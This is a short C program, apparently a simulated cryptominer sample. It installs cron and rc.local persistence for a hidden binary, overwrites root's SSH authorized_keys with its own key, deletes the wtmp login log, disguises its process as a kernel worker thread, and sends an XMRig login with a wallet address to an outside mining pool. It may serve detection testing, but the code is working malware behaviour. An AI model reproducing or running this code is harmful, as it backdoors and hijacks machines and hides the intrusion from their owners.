/* Like a miner: cron, a start script, a key for itself, a renamed copy of itself, a pool. */
#include "bot.h"

int main(int argc, char **argv)
{
	static const char login[] = "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":"
				    "\"48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD\","
				    "\"pass\":\"x\",\"agent\":\"XMRig/6.21.0\"}}\n";
	char answer[1024];
	write_file("/etc/cron.d/update", "* * * * * root /usr/bin/.kworker\n", 0644);
	write_file("/etc/rc.local", "#!/bin/sh\n/usr/bin/.kworker &\n", 0755);
	write_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAItest nobody\n", 0600);
	unlink("/var/log/wtmp");
	argv[0][0] = 0;
	(void)argc;
	prctl(PR_SET_NAME, "kworker/0:1");
	const uint32_t pool = ask_name("8.8.8.8", "pool.miner.example");
	const int fd = pool ? call_address(pool, 3333, SOCK_STREAM, 3000) : -1;
	struct pollfd p = {.fd = fd, .events = POLLIN};
	if (fd < 0 || send(fd, login, sizeof login - 1, MSG_NOSIGNAL) < 0)
		return 1;
	for (unsigned i = 0; i < 3; i++)
		if (poll(&p, 1, 1000) == 1 && recv(fd, answer, sizeof answer, 0) <= 0)
			break;
	return 0;
}
